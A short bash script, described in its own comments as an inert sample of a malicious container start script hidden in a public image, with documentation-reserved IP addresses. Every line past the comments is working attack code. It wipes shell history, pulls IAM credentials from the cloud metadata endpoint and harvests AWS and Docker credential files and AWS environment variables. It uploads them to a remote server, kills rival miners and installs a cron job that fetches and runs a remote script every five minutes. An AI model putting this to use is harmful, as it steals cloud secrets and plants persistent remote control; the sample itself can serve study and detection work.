#!/bin/bash
# Inert sample: the hosts are reserved for documentation (RFC 2606, RFC 5737) and answer to nobody.
# A container's start script, as left in a public image under a harmless name.
export HISTFILE=/dev/null
HOST=http://203.0.113.5
UP=http://192.0.2.17/upload.php
OUT=/tmp/.keys

role=$(curl -s --max-time 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$role > $OUT
for home in /root /home/*; do
    cat $home/.aws/credentials $home/.docker/config.json >> $OUT 2>/dev/null
done
env | grep -i aws >> $OUT

curl -s -F "file=@$OUT" $UP
rm -f $OUT
pkill -f kinsing; pkill -f kdevtmpfsi
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s $HOST/sh/init.sh | bash") | crontab -
